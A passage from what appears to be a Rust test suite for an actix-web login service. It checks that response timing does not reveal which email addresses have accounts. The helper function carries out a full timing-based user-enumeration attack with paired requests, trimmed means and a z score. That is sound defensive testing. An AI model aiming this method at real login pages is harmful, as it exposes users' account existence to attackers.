        let second = measure_login_timing(&app).await;
        assert!(
            second.abs() < 4.0 || second.signum() != first.signum(),
            "timing tells accounts apart: z {first:.2}, then {second:.2}"
        );
    }
}

/// One round of the timing attack: 400 alternating pairs of a wrong password for an
/// existing account and a login for an unknown email; the z score of the trimmed mean
/// of the paired differences.
async fn measure_login_timing<S, B>(app: &S) -> f64
where
    S: actix_web::dev::Service<
        actix_http::Request,
        Response = actix_web::dev::ServiceResponse<B>,
        Error = actix_web::Error,
    >,
    B: actix_web::body::MessageBody,
{
    const WARMUP: usize = 20;
    const PAIRS: usize = 400;
    let mut diffs = Vec::with_capacity(PAIRS);
    for i in 0..WARMUP + PAIRS {
        let mut timed = [0f64; 2];
        let order = if i % 2 == 0 { [0, 1] } else { [1, 0] };
        for which in order {
            let email = ["alice@example.com", "nobody@example.com"][which];
            let mut browser = Browser::default();
            let page = browser
                .get(app, &authorize_path("web", &[("tenant", "acme")]))
                .await;
            let (request, csrf) = (
                field(&page.body, "request").unwrap(),
                field(&page.body, "csrf").unwrap(),
            );
            let req = browser.post_request(
                "/login",
                &[
                    ("request", &request),
                    ("csrf", &csrf),
                    ("email", email),
                    ("password", "wrong password 1"),
                ],
            );
            let started = std::time::Instant::now();
            let reply = call(app, req).await;
            timed[which] = started.elapsed().as_secs_f64() * 1e6;
            assert!(
                reply.status == 200 && reply.body.contains("Invalid email or password."),
                "{}",
                reply.body
            );
        }
        if i >= WARMUP {
            diffs.push(timed[0] - timed[1]);
        }
    }
    diffs.sort_by(f64::total_cmp);
    let trim = PAIRS / 10;
    let kept = &diffs[trim..PAIRS - trim];
    let n = kept.len() as f64;
    let mean = kept.iter().sum::<f64>() / n;
    let sd = (kept.iter().map(|d| (d - mean).powi(2)).sum::<f64>() / (n - 1.0)).sqrt();
    let z = mean / (sd / n.sqrt());
    eprintln!(
        "known - unknown: trimmed mean {mean:.1} µs, sd {sd:.1} µs, z {z:.2} over {PAIRS} pairs"
    );
    z
}
